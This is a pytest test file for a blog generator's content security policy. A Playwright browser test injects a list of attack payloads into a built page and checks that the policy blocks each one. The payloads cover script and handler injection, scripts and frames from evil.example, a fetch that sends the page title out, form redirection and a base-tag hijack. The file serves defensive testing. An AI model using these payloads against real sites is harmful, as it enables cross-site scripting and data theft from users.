"""The content security policy of pages, in a real browser: what stands in a page runs, and nothing else does."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml
from conftest import Book, troubles_of
from playwright.sync_api import Browser

from blogkit.publish.check import crawl_site
from blogkit.publish.server import serving
from blogkit.web.policy import Allowed, allowed, blocked, with_policy

HOSTS = ("a.example", "b.example", "me.example")
FIGURE = '<div data-library="{}"><script type="application/json">{}</script></div>'
OWN = """\
<script>
window.inline = "글 & <b>";
</script>

<button id="press" onclick="this.textContent = &quot;pressed&quot;">Press</button>

<iframe title="a" srcdoc="<script>parent.framed = 1</script>"></iframe>
<iframe title="b" src="data:text/html,<script>parent.postMessage('written', '*')</script>"></iframe>

<img src="https://a.example/x.png" alt="x">
"""
ATTACKS = {
    "an inline script": "document.body.append(Object.assign(document.createElement('script'), "
    "{text: 'window.won = 1'}))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.won = 1\">')",
    "a script of another host": "document.body.append(Object.assign(document.createElement('script'), "
    "{src: 'https://evil.example/x.js'}))",
    "a text as code": "setTimeout(() => new Function('window.won = 1')())",
    "a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\"></iframe>')",
    "a written frame": "document.body.insertAdjacentHTML('beforeend', "
    "'<iframe srcdoc=\"<script>parent.won = 1</script>\"></iframe>')",
    "an address that is made up": "fetch('https://evil' + '.example/?' + document.title).catch(() => 0)",
    "a form": "document.body.insertAdjacentHTML('beforeend', '<form id=f action=https://evil.example/>'); f.submit()",
    "a base": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
}


def policy(body: str, may: Allowed | None = None, head: str = "") -> dict[str, str]:
    page = with_policy(
        f"<html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>", may or Allowed(HOSTS)
    )
    content = re.search(r'<head><meta charset=utf-8><meta http-equiv="Content-[^"]*" content="([^"]*)">\n', page)
    assert content
    return dict(rule.split(" ", 1) for rule in content[1].split("; "))


@pytest.mark.parametrize(
    ("body", "rule", "said"),
    [
        ("<p>Text", "default-src", "'self' data: blob:"),
        ("<p>Text", "script-src", "'self'"),
        ('<img src="https://a.example/x.png">', "default-src",
         "'self' data: blob: http://a.example http://b.example http://me.example"),  # which it may send on to
        ('<img src="https://a.example/x.png">', "script-src", "'self'"),
        ('<script src="https://a.example/x.js"></script>', "script-src", "'self' http://a.example http://b.example "
         "http://me.example 'unsafe-eval'"),
        ('<link rel="stylesheet" href="//a.example/x.css">', "style-src", "'self' 'unsafe-inline' http://a.example "
         "http://b.example http://me.example"),
        ('<button data-giscus="{}">', "script-src", "'self' https://giscus.app"),
        ('<form action="https://f.example/x">', "form-action", "'self' https://f.example"),
        ('<button formaction="mailto:a@f.example">', "form-action", "'self' mailto:"),
        ('<form action="//f.example/x">', "form-action", "'self' f.example"),
        ('<form action="http://[x"><iframe srcdoc=" "></iframe><iframe srcdoc="<!-- c -->"></iframe>', "form-action",
         "'self'"),
        ('<link rel="stylesheet" href="http://[::1"><iframe src="data:text/html,%20">', "script-src", "'self'"),
        ('<embed src="x.pdf">', "object-src", "'self'"),
        ('<iframe src="data:text/html,x">', "frame-src", "'self' data: blob:"),
        (FIGURE.format("bokeh", '{"name":"Line"}'), "script-src", "'self'"),
        (FIGURE.format("bokeh", '{"name":"CustomJS"}'), "script-src", "'self' 'unsafe-eval'"),
        (FIGURE.format("plotly", '{"data":[{"type":"bar"}],"layout":{"template":{"scattergl":[]}}}'), "script-src",
         "'self'"),
        (FIGURE.format("plotly", '{"data":[{"type":"scattergl"}]}'), "script-src", "'self' 'unsafe-eval'"),
        (FIGURE.format("vega", "{}"), "worker-src", "'self' blob:"),
        (FIGURE.format("html", json.dumps('<p onclick="a()">')), "script-src-attr",
         "'unsafe-hashes' 'sha256-qVpDBgj7bpq5hMAcGp3AOc79J3Y1Z4HvySTwKrWDoy4='"),
    ],
)  # fmt: skip
def test_a_page_may_do_what_stands_in_it(body: str, rule: str, said: str) -> None:
    assert policy(body)[rule] == said


def test_the_author_s_own_files_say_whom_they_ask(tmp_path: Path) -> None:
    files = {name: tmp_path / name for name in ("a.css", "b.js", "c.svg")}
    for file, text in zip(files.values(), ("@import '//a.example/x'", "eval ('1')", "b.example"), strict=True):
        file.write_text(text, encoding="utf-8")
    assert allowed(["a.example", "b.example"], "", files) == Allowed(("a.example", "b.example"), ("a.example",), True)
    assert (
        policy("", Allowed(HOSTS, ("a.example",), evals=True))["script-src"] == "'self' http://a.example 'unsafe-eval'"
    )


def test_a_policy_is_made_anew_and_ends_of_lines_do_not_count() -> None:
    page = with_policy("<head><script>a\r\nb</script></head>", Allowed())
    assert with_policy(page, Allowed()) == page
    assert with_policy(page.replace("\r\n", "\n"), Allowed()) == page.replace("\r\n", "\n")


def test_what_is_put_in_after_the_build_is_told(tmp_path: Path) -> None:
    page = with_policy("<head><title>x</title><script>a()</script></head><p onclick='b()'>", Allowed())
    assert blocked(page) == []
    assert blocked(page.replace("b()", "c()") + "<script>count()</script>") == ["count()", "c()"]
    for name in ("index.html", "404.html"):
        (tmp_path / name).write_text(page + "<script>count()</script>", encoding="utf-8")
    fault = "its content security policy blocks a script that stands in it: count()"
    assert f"index.html: {fault}" in crawl_site(tmp_path).faults


@pytest.mark.slow
def test_what_stands_in_pages_runs_and_nothing_else(book: Book, browser: Browser) -> None:
    config = yaml.safe_load((book.root / "_config.yml").read_text(encoding="utf-8"))
    news = "<script>window.news = '<img src=\"a.png\">'</script>"  # in 404.html addresses are others
    config["html"] = {"announcement": news}
    book.write("_config.yml", yaml.safe_dump(config, allow_unicode=True))
    book.config(blog_hosts=["a.example"])
    book.write("_static/own.js", "window.own = eval('1');")
    book.post("2024-01-01-own", OWN, redirect_from=["old.html"])
    book.post("2024-01-02-plain")
    book.build(BLOG_BASEURL="https://me.example/blog/")
    (book.root / "_static/own.js").unlink()
    context = browser.new_context()
    context.route(
        re.compile("https://"),
        lambda route: route.fulfill(body="<svg xmlns='http://www.w3.org/2000/svg'/>", content_type="image/svg+xml"),
    )
    with serving(book.site, "/blog/") as server:
        for name in ("index.html", "404.html", "about.html", "old.html", "posts/2024-01-01-own.html"):
            tab = context.new_page()
            troubles = troubles_of(tab)
            tab.add_init_script("addEventListener('message', (event) => (window.said = event.data))")
            tab.goto(server.home + name, wait_until="networkidle")
            assert tab.evaluate("[news.slice(0, 4), own]") == ["<img", 1], name
            assert troubles == [], name
        assert tab.evaluate("[inline, framed, said]") == ["글 & <b>", 1, "written"]
        tab.click("#press")
        assert tab.inner_text("#press") == "pressed"
    book.build(BLOG_BASEURL="https://me.example/blog/")
    with serving(book.site, "/blog/") as server:
        for what, attack in ATTACKS.items():
            tab = context.new_page()
            tab.goto(f"{server.home}posts/2024-01-02-plain.html", wait_until="networkidle")
            troubles = troubles_of(tab)
            tab.evaluate(f"() => {{ {attack} }}")
            tab.wait_for_timeout(100)
            assert [trouble for trouble in troubles if "Content Security Policy" in trouble], what
            assert tab.evaluate("window.won") is None, what
            assert tab.url.startswith(server.home), what
            tab.close()
    context.close()
